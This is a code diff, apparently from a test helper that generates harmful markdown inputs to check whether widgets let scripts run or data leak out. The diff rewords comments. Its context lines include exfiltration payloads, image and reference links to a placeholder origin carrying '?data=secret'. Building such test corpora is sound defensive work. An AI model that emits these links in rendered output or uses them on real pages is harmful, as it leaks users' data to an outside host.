@@ -1,7 +1,6 @@
 /**
- * Texts that mean harm, generated: what runs a script or sends a request when a page takes it for markup or follows
- * it by itself, in every place of markdown where such a thing has got through somewhere. `origin` is where a request
- * would go, and `run()` what a script would call.
+ * Generates texts that mean harm: markup and addresses that run a script or send a request, in every place of markdown
+ * where such a thing has got through in some widget. A request would go to `origin`, a script would call `run()`.
  */
 export function harmfulTexts(origin: string): string[] {
   const addresses = ADDRESSES.map((address) => address.replaceAll('ORIGIN', origin));
@@ -97,7 +96,7 @@ const MARKUP_PLACES = [
   '[^1]: HERE\n[r]: https://example.com "HERE"\n\n[r]',
 ];
 
-/** Without a script: what a page would fetch by itself carries away what stands in its address. */
+/** Harm without a script: whatever a page fetches by itself carries data away in its address. */
 const EXFILTRATION = [
   '![](ORIGIN/a.png?data=secret)',
   '![x][leak]\n\n[leak]: ORIGIN/a.png?data=secret',
